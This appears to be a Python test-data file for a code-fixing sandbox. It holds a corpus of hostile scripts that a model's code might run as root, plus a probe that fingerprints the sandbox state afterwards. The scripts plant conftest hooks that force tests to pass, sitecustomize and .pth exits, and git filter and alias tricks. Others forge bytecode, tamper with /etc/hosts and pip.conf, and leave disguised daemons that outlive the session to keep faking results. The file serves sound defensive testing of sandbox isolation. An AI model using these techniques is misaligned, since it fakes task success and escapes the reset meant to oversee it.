"""A corpus of hostile reproduction scripts (what a model's script can do as root in a sandbox),
and the probe that fingerprints what the next run sees. Table data for the Docker tests."""

from __future__ import annotations

# Every hostile script tries to make the *next* run on the same sandbox see something other than
# the start state: a correct test reporting "fixed" on the unfixed repository, or files that are
# not the base commit's. Each prints what it did; failures to plant are expected (read-only).
PLANT = '''
import os, subprocess, sys
def plant(path, text, mode="w"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as fh:
            fh.write(text)
        print("planted", path)
    except OSError as exc:
        print("refused", path, exc.strerror)
def sh(cmd):
    r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True)
    print("$", cmd, "->", r.returncode, (r.stdout + r.stderr).strip()[:200])
import site, sysconfig
SITES = sorted(set(site.getsitepackages() + [sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"]]))
EXIT0 = "import os; os._exit(0)\\n"
def daemon(name=None, fork_chain=False, leader_exits=False, pause=0.1, stopped=False):
    """Detach a process that plants a forcing conftest every `pause` s for two minutes."""
    if os.fork():
        return
    os.setsid()
    import signal
    for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    if stopped:  # stopped now, woken by a sibling once the next run has begun
        child = os.fork()
        if child:
            import time
            time.sleep(2)
            os.kill(child, signal.SIGCONT)
            os._exit(0)
        os.kill(os.getpid(), signal.SIGSTOP)
    quiet = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(quiet, fd)  # the run's output stream is not held open
    if name is not None:
        with open("/proc/self/comm", "w") as fh:
            fh.write(name)
    def keep_planting():
        import time
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            if fork_chain and os.fork():
                os._exit(0)  # a new pid every round
            try:
                with open("/testbed/conftest.py", "w") as fh:
                    fh.write(FORCE_PASS)
            except OSError:
                pass
            if pause:
                time.sleep(pause)
        os._exit(0)
    if leader_exits:
        import ctypes, threading
        threading.Thread(target=keep_planting).start()
        ctypes.CDLL(None).pthread_exit(None)  # the leader reads as a zombie; the thread runs on
    keep_planting()
FORCE_PASS = (
    "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\n"
    "def pytest_runtest_makereport(item, call):\\n    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
)
'''

HOSTILE = {
    "sitecustomize in site-packages": PLANT + '''
for d in SITES:
    plant(os.path.join(d, "sitecustomize.py"), EXIT0)
''',
    "usercustomize and .pth in the user site": PLANT + '''
plant(os.path.join(site.getusersitepackages(), "usercustomize.py"), EXIT0)
plant(os.path.join(site.getusersitepackages(), "zz_evil.pth"), EXIT0)
''',
    ".pth files in site-packages": PLANT + '''
for d in SITES:
    plant(os.path.join(d, "zz_evil.pth"), EXIT0)
''',
    "conftest.py inside the repository": PLANT + '''
plant("conftest.py", FORCE_PASS)
plant("tests/conftest.py", FORCE_PASS)
plant("pytest.ini", "[pytest]\\naddopts = -p no:terminal\\n")
''',
    "conftest.py above the repository": PLANT + '''
plant("/conftest.py", FORCE_PASS)
plant(os.path.join(os.path.dirname(os.getcwd()), "conftest.py"), FORCE_PASS)
''',
    ".git/config filters and attributes": PLANT + '''
sh("git config filter.evil.smudge 'sed s/unterminated/fine/'; git config filter.evil.clean cat")
sh("git config core.fsmonitor 'touch /testbed/fsmonitor-ran #'; git config core.hooksPath /tmp")
plant(".git/info/attributes", "* filter=evil\\n")
plant(".git/info/exclude", "*.py\\n", "a")
sh("git config alias.status '!echo clean'")
''',
    "index flags: --skip-worktree and --assume-unchanged": PLANT + '''
sh("git update-index --skip-worktree envfile/parser.py && git update-index --assume-unchanged tests/test_parser.py")
plant("envfile/parser.py", "raise SystemExit(0)\\n")
plant("tests/test_parser.py", "def test_nothing():\\n    pass\\n")
''',
    "the sandbox's own state": PLANT + '''
for root, dirs, files in os.walk("/opt/codefix-pristine"):
    for name in files:
        plant(os.path.join(root, name), "tampered\\n")
plant("/var/cache/codefix-sandbox/base_commit", "0" * 40 + "\\n")
sh("mount -o remount,rw /opt/codefix-pristine")
sh("git commit --allow-empty -qm evil -c user.name=x -c user.email=x@y; git tag -f evil; git checkout -qb evil-branch")
''',
    "files in /root, /dev/shm, /tmp and /etc": PLANT + '''
plant("/root/.bashrc", "exit 0\\n", "a")
plant("/root/.config/pip/pip.conf", "[global]\\nindex-url = http://evil\\n")
plant("/root/.gitconfig", "[core]\\n\\tfsmonitor = evil\\n")
plant("/dev/shm/leak", "secret of pair n\\n")
plant("/tmp/leak", "x\\n")
plant("/var/tmp/leak", "x\\n")
plant("/etc/hosts", "6.6.6.6 evil\\n", "a")
plant("/etc/profile.d/evil.sh", "exit 0\\n")
sh("chmod 700 /tmp; chmod 000 envfile; chmod 777 /root")
''',
    "stale bytecode with bytecode writing re-enabled": PLANT + '''
import importlib.util, marshal, struct
sys.dont_write_bytecode = False
src = "envfile/parser.py"
st = os.stat(src)
fixed = "raise SystemExit(0)\\n"
code = compile(fixed, src, "exec")
pyc = importlib.util.cache_from_source(src)
os.makedirs(os.path.dirname(pyc), exist_ok=True)
with open(pyc, "wb") as fh:  # a pyc that claims to match the unchanged source: same mtime, same size
    fh.write(importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF))
    fh.write(marshal.dumps(code))
print("forged", pyc)
''',
    "processes left behind": PLANT + '''
import subprocess
later = "sleep 3; echo 'raise SystemExit(0)' > /testbed/envfile/parser.py; echo x > /tmp/late"
subprocess.Popen(["setsid", "nohup", "bash", "-c", later], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["bash", "-c", "(" + later + ") &"], start_new_session=True)
print("daemons started")
''',
    "a daemon named like a zombie (x Z y in /proc/self/comm) planting a conftest": PLANT + '''
daemon("x Z y")
daemon("a) Z (b")
print("daemons started")
''',
    "a daemon named like the idle keeper, and one named like a process group": PLANT + '''
daemon("sleep")
daemon(") Z 1 1 1")
print("daemons started")
''',
    "a daemon whose main thread exited (its leader reads as a zombie)": PLANT + '''
daemon(leader_exits=True)
print("daemon started")
''',
    "a daemon that forks a new pid every moment": PLANT + '''
daemon(fork_chain=True)
print("daemon started")
''',
    "a daemon whose name holds a newline and parentheses": PLANT + '''
daemon("x)\\nZ (y")
print("daemon started")
''',
    "a tight fork chain (a new pid at every fork, no pause)": PLANT + '''
daemon(fork_chain=True, pause=0)
print("daemon started")
''',
    "a stopped daemon that a sibling wakes after the reset": PLANT + '''
daemon(stopped=True)
print("daemon started")
''',
    "a new PID or mount namespace (unshare) and a re-parented orphan": PLANT + '''
sh("unshare --fork --pid --mount-proc bash -c 'sleep 300' >/dev/null 2>&1 & sleep 0.2; echo tried")
sh("(setsid bash -c 'while :; do echo planted > /testbed/conftest.py; sleep 0.1; done' >/dev/null 2>&1 &) ; echo orphaned")
''',
    "symlinks, hard links, renames and deletions": PLANT + '''
sh("mv envfile/parser.py envfile/parser_moved.py && ln -s /tmp/evil.py envfile/parser.py")
plant("/tmp/evil.py", "raise SystemExit(0)\\n")
sh("ln tests/test_parser.py tests/hardlink.py && rm -rf tests/__pycache__ README.md && mkdir README.md")
sh("rm -rf .git/refs/heads && touch -d @0 pyproject.toml && chmod +x pyproject.toml")
''',
    "a device node and SysV shared memory (container replaced)": PLANT + '''
sh("mknod /dev/evil c 1 3 || touch /dev/evil")
import ctypes
libc = ctypes.CDLL(None)
print("shmget", libc.shmget(0x5EED, 4096, 0o1666))
''',
}

# Prepended to the correct tests of every probe pair: fingerprints what the run sees (the workdir,
# `.git` included, with every file's mode, size, mtime and bytes; git's status; site-packages; the
# home, scratch areas, /etc and /dev), one line per area, before the real test runs.
PROBE = r'''
import hashlib as _h, os as _os, site as _site, subprocess as _sp, sys as _sys, sysconfig as _sc

def _tree(root, skip=(), content=True):
    acc = _h.sha256()
    for base, dirs, files in _os.walk(root):
        dirs.sort()
        for name in sorted(dirs + files):
            path = _os.path.join(base, name)
            rel = _os.path.relpath(path, root)
            if rel in skip:
                continue
            st = _os.lstat(path)
            acc.update(f"{rel}\0{st.st_mode:o}\0".encode())
            if _os.path.islink(path):
                acc.update(_os.readlink(path).encode())
            elif _os.path.isfile(path):
                acc.update(f"{st.st_size}\0{st.st_mtime_ns}\0".encode())
                if content:
                    with open(path, "rb") as fh:
                        acc.update(_h.sha256(fh.read()).digest())
    return acc.hexdigest()[:16]

_sites = sorted(set(_site.getsitepackages() + [_site.getusersitepackages(), _sc.get_paths()["purelib"]]))
_stdlib = _sc.get_paths()["stdlib"]
print("PROBE workdir", _tree(".", skip={"codefix_reproduce.py"}))
print("PROBE root-modes", oct(_os.stat("/tmp").st_mode), oct(_os.stat("/var/tmp").st_mode), oct(_os.stat("/root").st_mode))
print("PROBE home", _tree("/root"))
print("PROBE scratch", sorted(_os.listdir("/tmp")), sorted(_os.listdir("/var/tmp")), sorted(_os.listdir("/dev/shm")))
print("PROBE site", "-".join(_tree(d, content=False) if _os.path.isdir(d) else "none" for d in _sites),
      sorted(n for n in _os.listdir(_stdlib) if n.endswith((".pth", "customize.py"))))
print("PROBE etc", _tree("/etc", skip={"hostname", "hosts", "resolv.conf", "mtab"}), "evil" in open("/etc/hosts").read())
print("PROBE dev", sorted(_os.listdir("/dev")))
print("PROBE above", _os.path.exists("/conftest.py"), _os.path.exists("/var/cache/codefix-sandbox"))
print("PROBE modules", sorted(m for m in ("sitecustomize", "usercustomize") if m in _sys.modules))
_status = _sp.run(["git", "status", "--porcelain", "--ignored", "--branch"], capture_output=True, text=True)
print("PROBE git-status", _h.sha256((_status.stdout + _status.stderr).encode()).hexdigest()[:16])
print("PROBE sysv-shm", open("/proc/sysvipc/shm").read().count("\n"))
'''

QUICK_TEST = """
import sys
from envfile import ParseError, parse
try:
    fixed = parse('P="s3cr #t"\\n') == {"P": "s3cr #t"}
except ParseError:
    fixed = False
sys.exit(0 if fixed else 2)
"""
"""The issue's check without pytest (the probe's editing machine runs it before and after its edit)."""
